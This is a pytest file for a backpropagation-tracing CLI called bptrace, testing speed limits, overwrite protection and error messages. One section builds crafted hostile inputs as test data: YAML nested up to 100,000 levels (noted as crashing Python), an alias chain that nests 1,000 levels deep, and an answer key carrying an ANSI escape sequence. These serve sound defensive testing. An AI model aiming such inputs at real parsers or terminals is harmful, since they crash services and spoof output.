    assert match, line
    announced = int((match.group(1) or "0").replace(",", "")) * 3600 + int(match.group(2)) * 60
    assert 0.5 <= announced / (per_epoch * 1e9) <= 2, (announced, per_epoch * 1e9)
    assert proc.returncode == 130 and out == "", (proc.returncode, err)


def test_a_sheet_asking_e_total_after_100000_steps_is_marked_on_the_fast_path(
    here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A sheet with `E_total@100000: 0.512` took 52 s on Mazur (100 s diagnosing) while `train --epochs 100000`
    took 1.3 s: the hooked step was repeated 100,000 times per misconception. Now the many steps go through the
    fast training path (engine/train.py), and the hooked step runs at most HOOKED_MAX_STEPS times per variant.
    Counted, not timed: the counts do not depend on the machine's load."""
    import bptrace.engine.step as step
    import bptrace.engine.train as engine
    from bptrace.grading import diagnose

    traces, trainings = [0], [0]
    real_trace, real_train = step.trace, engine.train

    def counted_trace(*args: Any, **kwargs: Any) -> Any:
        traces[0] += 1
        return real_trace(*args, **kwargs)

    def counted_train(scenario: Any, epochs: int, *args: Any, **kwargs: Any) -> Any:
        trainings[0] += epochs >= 100_000 - diagnose.HOOKED_MAX_STEPS
        return real_train(scenario, epochs, *args, **kwargs)

    monkeypatch.setattr(step, "trace", counted_trace)
    monkeypatch.setattr(engine, "train", counted_train)
    Path("big.yaml").write_text("scenario: mazur\nanswers:\n  E_total@100000: 0.512\n", encoding="utf-8")
    result = invoke("check", "big.yaml")
    assert result.exit_code == 1 and "no known misconception reproduces it" in result.stdout, result.stdout
    assert trainings[0] >= 1  # the right value and the variants' values came from the fast path
    assert traces[0] < 100 * diagnose.HOOKED_MAX_STEPS, traces[0]  # not 100,000 hooked steps per variant


def test_train_refuses_more_snapshots_than_it_can_show() -> None:
    line = one_error(invoke("train", "mazur", "--epochs", "1000000000", "--every", "1"))
    assert "would keep 1,000,000,000 snapshots (at most 100,000) (use --every 10,000 or more)" in line


def test_explain_bounds_sympy_by_the_paths_and_says_so(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """explain W1_1_1 on a 2-4×12-1 network (4¹¹ paths) ran past 600 s in SymPy's check. The whole-expression
    route is never taken for it (its size grows with the paths); the verification's layered route
    (verify/symbolic_layers.py) differentiates each layer shape once, so SymPy's work stays bounded."""
    from bptrace.grading.answers import random_exercise
    from bptrace.verify import symbolic, symbolic_layers

    Path("deep.yaml").write_text(random_exercise(3, [2] + [4] * 12 + [1], "sigmoid", None, "half_sse", 0.5, 1, "new"))
    whole = symbolic._template

    def never_whole(kind: str, layers: tuple[object, ...], loss: str) -> object:
        assert len(layers) <= 4, "SymPy wrote the loss as one expression through more than 4 layers"
        return whole(kind, layers, loss)  # type: ignore[arg-type]

    monkeypatch.setattr(symbolic, "_template", never_whole)
    before = symbolic_layers.DERIVATIONS[0]
    deep = invoke("explain", "W1_1_1", "-s", "deep.yaml")
    assert deep.exit_code == 0, deep.stderr
    assert f"SymPy not run: {4**11:,} paths from W1_1_1 to the loss, more than 4,096" in " ".join(deep.stdout.split())
    assert symbolic_layers.DERIVATIONS[0] - before <= 12  # a few templates per layer shape, not one per path
    near = invoke("explain", "W13_1_1", "-s", "deep.yaml")  # 1 path: SymPy still checks it
    assert near.exit_code == 0 and "∂E/∂W13_1_1 of the loss written out in W13_1_1" in near.stdout


def test_two_outputs_of_one_command_may_not_be_the_same_file(here: Path) -> None:
    _sheet("b.yaml")
    line = one_error(invoke("check", "b.yaml", "--key", _key(), "-o", "x.csv", "--report", "x.csv"))
    assert line == "bptrace: error: cannot write x.csv: x.csv names the same file (give each output its own name)"
    assert "names the same file" in one_error(invoke("train", "mazur", "--csv", "h.csv", "-o", "./h.csv"))


# ---- nesting (found by the attack on the recurrent and layered kinds, 2026-12-02) -----------------


def _deep(levels: int, head: str) -> str:
    return head + "[" * levels + "1" + "]" * levels + "\n"


@pytest.mark.parametrize(
    "head",
    [
        "inputs: ",  # a network
        "kind: layers\nsamples: ",
        "kind: rnn\ninputs: ",
        "kind: graph\nvalues: ",
    ],
)
def test_a_deeply_nested_document_is_one_line_exit_2(here: Path, head: str) -> None:
    """5,000 levels of brackets were an "internal error: RecursionError" (the converter recursed per level)."""
    Path("deep.yaml").write_text(_deep(5000, head))
    line = one_error(invoke("run", "deep.yaml"))
    assert line.startswith("bptrace: error: deep.yaml:")
    assert f"nests lists and mappings more than {source.MAX_DEPTH} levels deep" in line


def test_a_deeply_nested_answer_sheet_is_one_line_exit_2(here: Path) -> None:
    Path("sheet.yaml").write_text(_deep(3000, "scenario: mazur\nanswers:\n  out_o1: "))
    line = one_error(invoke("check", "sheet.yaml"))
    assert line.startswith("bptrace: error: sheet.yaml:2") or line.startswith("bptrace: error: sheet.yaml:3")
    assert "levels deep" in line


def test_a_hundred_thousand_levels_of_brackets_do_not_crash_the_interpreter(tmp_path: Path) -> None:
    """100,000 levels (200 KB) crashed Python with a segmentation fault (exit -11): libyaml's composer
    recurses in C. The depth is now measured from the parser's events before any tree is composed."""
    path = tmp_path / "deep.yaml"
    path.write_text(_deep(100_000, "kind: layers\nsamples: "))
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-m", "bptrace", "run", str(path)], capture_output=True, text=True, env=env, timeout=120
    )
    assert done.returncode == 2, (done.returncode, done.stderr[-500:])
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "levels deep" in lines[0] and f"{path}:2" in lines[0], lines


def test_nesting_through_aliases_is_refused_in_one_line(here: Path) -> None:
    """Each anchor wrapping the one before in four lists: 250 of them nest 1,000 levels once the aliases are
    followed, within the alias budget ("internal error: RecursionError" before)."""
    lines = ["inputs:", " a0: &a0 [1]"] + [f" a{i}: &a{i} [[[[*a{i - 1}]]]]" for i in range(1, 250)]
    Path("chain.yaml").write_text("\n".join(lines) + "\n")
    line = one_error(invoke("run", "chain.yaml"))
    assert line.startswith("bptrace: error: chain.yaml:") and "levels deep" in line


def test_a_document_nested_to_the_limit_is_read() -> None:
    text = "a: " + "[" * (source.MAX_DEPTH - 1) + "1" + "]" * (source.MAX_DEPTH - 1) + "\n"
    doc = source.parse(text, "ok.yaml", ScenarioError)
    node = doc.data["a"]
    for _ in range(source.MAX_DEPTH - 2):
        node = node[0]
    assert node == [1]
    with pytest.raises(ScenarioError, match="levels deep"):
        source.parse("a: [" + text[3:-1] + "]\n", "deep.yaml", ScenarioError)


@pytest.mark.parametrize(
    "sheet", ["scenario: mazur\nanswers:\n  KEY: 0.5\n", "scenario: layers_conv_pool\nanswers:\n  KEY: 0.5\n"]
)
def test_an_answer_named_with_a_control_character_is_an_unknown_name_not_a_bad_number(here: Path, sheet: str) -> None:
    """`"out_o1\\e[31m": 0.5` was refused as "expected a number, got 0.5": the literal texts of the answers
    were looked up by the raw key, the answers by the key as read (its ESC written out as \\x1b)."""
    Path("sheet.yaml").write_text(sheet.replace("KEY", '"out_o1\\e[31m"' if "mazur" in sheet else '"a1_1_1\\e[31m:1"'))
    line = one_error(invoke("check", "sheet.yaml"))
    assert "unknown quantity" in line and "\\x1b[31m" in line and "\x1b" not in line
    assert "expected a number" not in line


RNN_SHEET = "scenario: rnn_tiny\nanswers:\n  h1@t1: 0.462117157\n"
LAYERS_SHEET = "scenario: layers_conv_pool\nanswers:\n  a1_1_1:1: 0.23\n"
GRAPH_SHEET = "scenario: graph_circuit\nanswers:\n  df/dx: -4\n"


@pytest.mark.parametrize(
    "args",
    [
        ["run", "rnn_tiny", "--format", "html"],
        ["run", "layers_conv_pool", "--format", "json"],
        ["run", "graph_circuit", "--format", "markdown"],
        ["run", "rnn_tiny"],
        ["check", "rnn.yaml", "--format", "html"],
        ["check", "layers.yaml"],
        ["check", "graph.yaml", "--format", "json"],
    ],
    ids=lambda a: " ".join(a),
)
def test_the_recurrent_layered_and_graph_kinds_replace_a_file_only_with_force(here: Path, args: list[str]) -> None:
    """`run rnn_tiny -o page.html` and `check rnn_sheet.yaml -o marked.txt` (and the same for a layer stack or a
    graph) replaced an existing file without --force: the commands handed -o to the kind's code unchecked."""
    for name, text in (("rnn.yaml", RNN_SHEET), ("layers.yaml", LAYERS_SHEET), ("graph.yaml", GRAPH_SHEET)):
        Path(name).write_text(text)
    Path("out.txt").write_text("keep")
    line = one_error(invoke(*args, "-o", "out.txt"))
    assert "cannot write out.txt: the file exists (add --force" in line
    assert Path("out.txt").read_text() == "keep"
    result = invoke(*args, "-o", "out.txt", "--force")
    assert result.exit_code in (0, 1), result.stderr  # type: ignore[attr-defined]
    assert Path("out.txt").read_text() != "keep"
    no_temporaries(here)
